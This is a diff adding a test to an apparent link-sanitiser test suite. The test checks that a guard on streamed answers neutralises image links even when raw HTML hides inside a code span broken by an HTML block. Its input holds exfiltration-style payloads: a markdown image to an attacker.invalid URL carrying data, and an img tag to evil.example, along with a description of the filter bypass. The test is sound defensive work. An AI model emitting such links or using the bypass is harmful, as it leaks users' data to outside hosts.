@@ -102,3 +102,17 @@ def test_inert_text_renders_as_itself_without_addresses() -> None:
     out = inert(text)
     assert rendered_addresses(out) == []
     assert _MD.renderInline(out).count("attacker[.]invalid") == 1
+
+
+def test_a_code_span_over_lines_that_a_block_breaks_does_not_shelter_raw_html() -> None:
+    """Found by the property test above (CI, stop 30): ``</div>`` on a line of its own starts an
+    HTML block, so the backticks opened two lines earlier close nothing; the guard had released
+    ``<img `` as if it were code and could no longer make ``src=…`` inert."""
+    answer = ('``<div style="x">\n![z](http://e.example/z)\n</div>\n<img src=http://evil.example/i.png>``'
+              "![x](http://attacker.invalid/c?d=4200)")
+    guard = LinkGuard(EXTRACTS)
+    client = guard.feed(answer)
+    assert not unsafe(client)
+    client += guard.flush()
+    assert not unsafe(client), client
+    assert "http://evil.example/i.png" in guard.addresses
